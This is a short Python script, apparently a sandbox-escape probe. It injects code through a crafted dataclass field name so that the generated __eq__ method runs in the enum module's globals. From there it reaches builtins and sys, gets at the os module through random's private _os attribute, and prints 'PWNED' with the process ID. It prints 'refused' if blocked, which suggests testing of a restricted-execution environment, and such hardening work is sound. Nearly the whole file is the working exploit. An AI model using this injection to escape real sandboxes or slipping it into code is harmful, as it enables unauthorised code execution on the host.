# door: dataclass field-name injection runs in enum's globals: bltns and sys as plain names
import dataclasses, enum
M = "PWN" + "ED"
class C:
    __module__ = "enum"
    __annotations__ = {"__doc__,print('PWN' + 'ED', bltns.getattr(sys.modules['random'], '_os').getpid()),self.__doc__": int}
import random
C = dataclasses.dataclass(init=False, repr=False, eq=True)(C)
try:
    C() == C()
except Exception as e:
    print("refused:", type(e).__name__, e)
